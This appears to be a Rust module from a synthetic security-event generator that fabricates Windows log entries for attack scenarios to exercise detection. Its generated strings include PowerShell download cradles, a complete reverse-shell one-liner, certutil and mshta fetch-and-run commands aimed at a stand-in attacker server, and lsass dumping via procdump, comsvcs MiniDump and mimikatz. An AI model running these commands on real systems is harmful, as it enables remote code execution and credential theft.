//! Attack scenarios on one host: encoded PowerShell, lsass access, a suspicious service install, a
//! privileged group add and an Office program starting a shell.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use rand::Rng;

use super::catalog::{
    CMD, DOMAIN, DOMAIN_SID, EXCEL, EXPLORER, EXPLORER_CMD, Exe, LSASS, MSHTA, OUTLOOK, POWERSHELL,
    RUNDLL32, WINWORD, WMIPRVSE, WSCRIPT,
};
use super::domain::{Role, Who};
use super::events::{Access, Ch, Ids, Spawn, write_access, write_service};
use super::json::{kv, kv_hex, kv_plain};
use super::{EventGenerator, Scenario};

/// UTF-16LE base64 of a PowerShell script, as `-EncodedCommand` takes it.
fn encode_command(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    BASE64.encode(bytes)
}

impl EventGenerator {
    /// A malicious PowerShell script, as an attacker would encode it.
    fn evil_script(&mut self) -> String {
        let server = self.evil_server();
        let name = self.random_text(6, b"abcdefghijklmnopqrstuvwxyz");
        match self.rng.random_range(0..4u32) {
            0 => format!(
                "IEX (New-Object Net.WebClient).DownloadString('http://{server}/{name}.ps1')"
            ),
            1 => format!(
                "IEX ((New-Object System.Net.WebClient).DownloadString('https://{server}/{name}'))"
            ),
            2 => format!(
                "Invoke-WebRequest -Uri http://{server}/{name}.exe -OutFile $env:TEMP\\{name}.exe; Start-Process $env:TEMP\\{name}.exe"
            ),
            _ => format!(
                "$c=New-Object Net.Sockets.TCPClient('{server}',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{{0}};\
                 while(($i=$s.Read($b,0,$b.Length)) -ne 0){{$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);\
                 $r=(iex $d 2>&1|Out-String);$o=([Text.Encoding]::ASCII).GetBytes($r);$s.Write($o,0,$o.Length)}}"
            ),
        }
    }

    /// powershell.exe with `-enc`/`-EncodedCommand`/`-e` and a UTF-16LE base64 payload, started by cmd.exe
    /// or WmiPrvSE.exe.
    pub(super) fn inject_encoded_powershell(&mut self, t: i64) {
        let h = self.host();
        self.encoded_powershell_on(t, h);
    }

    /// [`Self::inject_encoded_powershell`] on host `h`.
    pub(super) fn encoded_powershell_on(&mut self, t: i64, h: usize) {
        const S: Scenario = Scenario::EncodedPowerShell;
        let u = if self.hosts[h].role == Role::Workstation {
            self.hosts[h].user
        } else {
            self.user()
        };
        let script = self.evil_script();
        let b64 = encode_command(&script);
        let cmd = match self.rng.random_range(0..4u32) {
            0 => format!("powershell.exe -nop -w hidden -enc {b64}"),
            1 => format!("powershell.exe -NoP -NonI -W Hidden -EncodedCommand {b64}"),
            2 => format!(r#""{}" -e {b64}"#, POWERSHELL.path),
            _ => format!("powershell -ep bypass -enc {b64}"),
        };
        let (parent, parent_cmd): (&Exe, String) = if self.rng.random_bool(0.5) {
            (&CMD, format!(r"C:\Windows\system32\cmd.exe /c {cmd}"))
        } else {
            (
                &WMIPRVSE,
                r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding".to_string(),
            )
        };
        let parent_who = if parent.path == CMD.path {
            Who::User(u)
        } else {
            Who::NetworkService
        };
        let spawn = Spawn {
            host: h,
            image: POWERSHELL.path.into(),
            original: POWERSHELL.original,
            cmd: cmd.into(),
            who: Who::User(u),
            integrity: "High",
            session: if parent.path == CMD.path { 1 } else { 0 },
            parent_image: parent.path.into(),
            parent_cmd: parent_cmd.into(),
            parent_who,
            hash_seed: None,
        };
        let ids = self.ids(h);
        self.queue_spawn(t, S, &spawn, &ids);
    }

    /// A dumping tool starts (Sysmon 1), then opens lsass.exe (Sysmon 10) with a suspicious mask and a
    /// call trace through dbghelp/dbgcore or unbacked memory.
    pub(super) fn inject_lsass_access(&mut self, t: i64) {
        let h = self.host();
        self.lsass_access_on(t, h);
    }

    /// [`Self::inject_lsass_access`] on host `h`.
    pub(super) fn lsass_access_on(&mut self, t: i64, h: usize) {
        const S: Scenario = Scenario::LsassAccess;
        let u = if self.hosts[h].role == Role::Workstation {
            self.hosts[h].user
        } else {
            self.user()
        };
        let profile = self.users[u].profile.clone();
        let lsass_pid = self.hosts[h].lsass_pid;
        let rand_name = self.random_text(8, b"abcdefghijklmnopqrstuvwxyz0123456789");
        let o: [u32; 5] = std::array::from_fn(|_| self.rng.random_range(0x1000..0xf_ffffu32));
        let unbacked = self.rng.random_range(0x1_0000_0000..0x7fff_0000_0000u64);
        let (image, original, cmd, granted, trace): (String, &'static str, String, u32, String) =
            match self.rng.random_range(0..4u32) {
                0 => {
                    let image = format!(r"{profile}\AppData\Local\Temp\procdump64.exe");
                    let trace = format!(
                        r"C:\Windows\SYSTEM32\ntdll.dll+{:x}|C:\Windows\System32\KERNELBASE.dll+{:x}|C:\Windows\SYSTEM32\dbghelp.dll+{:x}|{image}+{:x}|C:\Windows\System32\KERNEL32.DLL+{:x}",
                        o[0], o[1], o[2], o[3], o[4]
                    );
                    let cmd =
                        format!(r"{image} -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp");
                    let granted = self.pick(&[0x1fffffu32, 0x1410]);
                    (image, "procdump", cmd, granted, trace)
                }
                1 => {
                    let trace = format!(
                        r"C:\Windows\SYSTEM32\ntdll.dll+{:x}|C:\Windows\System32\KERNELBASE.dll+{:x}|C:\Windows\System32\dbgcore.dll+{:x}|C:\Windows\System32\comsvcs.dll+{:x}|C:\Windows\System32\rundll32.exe+{:x}",
                        o[0], o[1], o[2], o[3], o[4]
                    );
                    let cmd = format!(
                        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {lsass_pid} C:\Windows\Temp\{rand_name}.dmp full"
                    );
                    let granted = self.pick(&[0x1fffffu32, 0x1410]);
                    (
                        RUNDLL32.path.to_string(),
                        RUNDLL32.original,
                        cmd,
                        granted,
                        trace,
                    )
                }
                2 => {
                    let image = format!(r"{profile}\Downloads\mimikatz.exe");
                    let trace = format!(
                        r"C:\Windows\SYSTEM32\ntdll.dll+{:x}|C:\Windows\System32\KERNELBASE.dll+{:x}|{image}+{:x}|UNKNOWN({unbacked:016X})",
                        o[0], o[1], o[2]
                    );
                    let cmd =
                        format!(r#"{image} "privilege::debug" "sekurlsa::logonpasswords" exit"#);
                    let granted = self.pick(&[0x1010u32, 0x1438]);
                    (image, "mimikatz.exe", cmd, granted, trace)
                }
                _ => {
                    let image = format!(r"C:\Windows\Temp\{rand_name}.exe");
                    let trace = format!(
                        r"C:\Windows\SYSTEM32\ntdll.dll+{:x}|UNKNOWN({unbacked:016X})|UNKNOWN({:016X})",
                        o[0],
                        unbacked + u64::from(o[1])
                    );
                    let granted = self.pick(&[0x143au32, 0x1438, 0x1010]);
                    (image.clone(), "-", image, granted, trace)
                }
            };
        let ids = self.ids(h);
        let spawn = Spawn {
            host: h,
            image: image.clone().into(),
            original,
            cmd: cmd.into(),
            who: Who::User(u),
            integrity: "High",
            session: 1,
            parent_image: CMD.path.into(),
            parent_cmd: r#""C:\Windows\system32\cmd.exe""#.into(),
            parent_who: Who::User(u),
            hash_seed: Some(self.rng.random()),
        };
        self.queue_spawn(t, S, &spawn, &ids);

        let src_tid = self.pid();
        let due = t + self.rng.random_range(500..3000i64);
        let mut body = Vec::with_capacity(1024);
        {
            let host = &self.hosts[h];
            let access = Access {
                src_guid: ids.guid,
                src_pid: ids.pid,
                src_tid,
                src_image: &image,
                src_user: &self.users[u].qualified,
                tgt_guid: host.lsass_guid,
                tgt_pid: host.lsass_pid,
                tgt_image: LSASS,
                granted,
                call_trace: &trace,
            };
            write_access(&mut body, &access);
        }
        self.queue(due, h, 10, Ch::Sysmon, S, body);
    }

    /// System 7045 installing a random-named LocalSystem service whose binary is a shell one-liner,
    /// a file in a public or temp folder, or a file on the ADMIN$ share.
    pub(super) fn inject_service_install(&mut self, t: i64) {
        let h = self.host();
        self.service_install_on(t, h);
    }

    /// [`Self::inject_service_install`] on host `h`.
    pub(super) fn service_install_on(&mut self, t: i64, h: usize) {
        const S: Scenario = Scenario::SuspiciousServiceInstall;
        let name = self.random_text(8, b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ");
        let file = self.random_text(7, b"abcdefghijklmnopqrstuvwxyz0123456789");
        let path = match self.rng.random_range(0..4u32) {
            0 => {
                let script = self.evil_script();
                format!(
                    "%COMSPEC% /c powershell -nop -w hidden -enc {}",
                    encode_command(&script)
                )
            }
            1 => r"C:\Users\Public\svc.exe".to_string(),
            2 => format!(r"C:\Windows\Temp\{file}.exe"),
            _ => format!(r"\\{}\ADMIN$\{file}.exe", self.hosts[h].short),
        };
        let mut body = Vec::with_capacity(512);
        write_service(&mut body, &name, &path, "demand start");
        self.queue(t, h, 7045, Ch::System, S, body);
    }

    /// Security 4732 (member added to Builtin\Administrators) or 4728 (member added to Domain Admins, on a
    /// domain controller).
    pub(super) fn inject_group_add(&mut self, t: i64) {
        const S: Scenario = Scenario::PrivilegedGroupAdd;
        let actor = self.user();
        let member = loop {
            let m = self.user();
            if m != actor {
                break m;
            }
        };
        let subject_logon_id = u64::from(self.rng.random_range(0x10_0000..0xfff_ffffu32));
        let domain_admins = self.rng.random_bool(0.5);
        let h = if domain_admins {
            self.dc()
        } else {
            self.host()
        };
        let (eid, group, group_domain, group_sid) = if domain_admins {
            (
                4728,
                "Domain Admins",
                DOMAIN.to_string(),
                format!("{DOMAIN_SID}-512"),
            )
        } else {
            (
                4732,
                "Administrators",
                "Builtin".to_string(),
                "S-1-5-32-544".to_string(),
            )
        };
        let m = &self.users[member];
        let a = &self.users[actor];
        let mut body = Vec::with_capacity(512);
        kv(
            &mut body,
            "MemberName",
            &format!("CN={},OU=Users,DC=corp,DC=example", m.name),
        );
        kv_plain(&mut body, "MemberSid", &m.sid);
        kv_plain(&mut body, "TargetUserName", group);
        kv_plain(&mut body, "TargetDomainName", &group_domain);
        kv_plain(&mut body, "TargetSid", &group_sid);
        kv_plain(&mut body, "SubjectUserSid", &a.sid);
        kv_plain(&mut body, "SubjectUserName", &a.name);
        kv_plain(&mut body, "SubjectDomainName", DOMAIN);
        kv_hex(&mut body, "SubjectLogonId", subject_logon_id);
        kv_plain(&mut body, "PrivilegeList", "-");
        self.queue(t, h, eid, Ch::Security, S, body);
    }

    /// Word, Excel or Outlook opens a lure (Sysmon 1 from explorer), then starts a shell or script host
    /// (Sysmon 1 with the Office parent) a few seconds later.
    pub(super) fn inject_office_shell(&mut self, t: i64) {
        const S: Scenario = Scenario::OfficeSpawnsShell;
        let h = self.workstation();
        let u = self.hosts[h].user;
        let profile = self.users[u].profile.clone();
        let lure_no = self.rng.random_range(1000..99_999u32);
        let (office, office_cmd) = match self.rng.random_range(0..3u32) {
            0 => (
                &WINWORD,
                format!(
                    r#""{}" /n "{profile}\Downloads\Invoice_{lure_no}.docm" /o """#,
                    WINWORD.path
                ),
            ),
            1 => (
                &EXCEL,
                format!(
                    r#""{}" "{profile}\Downloads\Payment_{lure_no}.xlsm""#,
                    EXCEL.path
                ),
            ),
            _ => (&OUTLOOK, format!("\"{}\"", OUTLOOK.path)),
        };
        let office_ids = self.ids(h);
        let office_spawn = Spawn {
            host: h,
            image: office.path.into(),
            original: office.original,
            cmd: office_cmd.clone().into(),
            who: Who::User(u),
            integrity: "Medium",
            session: 1,
            parent_image: EXPLORER.path.into(),
            parent_cmd: EXPLORER_CMD.into(),
            parent_who: Who::User(u),
            hash_seed: None,
        };
        self.queue_spawn(t, S, &office_spawn, &office_ids);

        let server = self.evil_server();
        let name = self.random_text(6, b"abcdefghijklmnopqrstuvwxyz");
        let (exe, cmd) = match self.rng.random_range(0..5u32) {
            0 => (
                &CMD,
                format!(
                    r"C:\Windows\system32\cmd.exe /c certutil -urlcache -split -f http://{server}/{name}.exe %TEMP%\{name}.exe && %TEMP%\{name}.exe"
                ),
            ),
            1 => (
                &POWERSHELL,
                format!(
                    r#"powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://{server}/{name}.ps1')""#
                ),
            ),
            2 => (
                &WSCRIPT,
                format!(
                    r#""C:\Windows\System32\WScript.exe" "{profile}\AppData\Local\Temp\{name}.vbs""#
                ),
            ),
            3 => (
                &MSHTA,
                format!(r#""C:\Windows\System32\mshta.exe" http://{server}/{name}.hta"#),
            ),
            _ => (
                &RUNDLL32,
                format!(
                    r#""C:\Windows\System32\rundll32.exe" {profile}\AppData\Local\Temp\{name}.dll,DllRegisterServer"#
                ),
            ),
        };
        let child_ids = Ids {
            guid: self.guid(h),
            pid: self.pid(),
            parent_guid: office_ids.guid,
            parent_pid: office_ids.pid,
        };
        let child = Spawn {
            host: h,
            image: exe.path.into(),
            original: exe.original,
            cmd: cmd.into(),
            who: Who::User(u),
            integrity: "Medium",
            session: 1,
            parent_image: office.path.into(),
            parent_cmd: office_cmd.into(),
            parent_who: Who::User(u),
            hash_seed: None,
        };
        let due = t + self.rng.random_range(2000..15_000i64);
        self.queue_spawn(due, S, &child, &child_ids);
    }
}
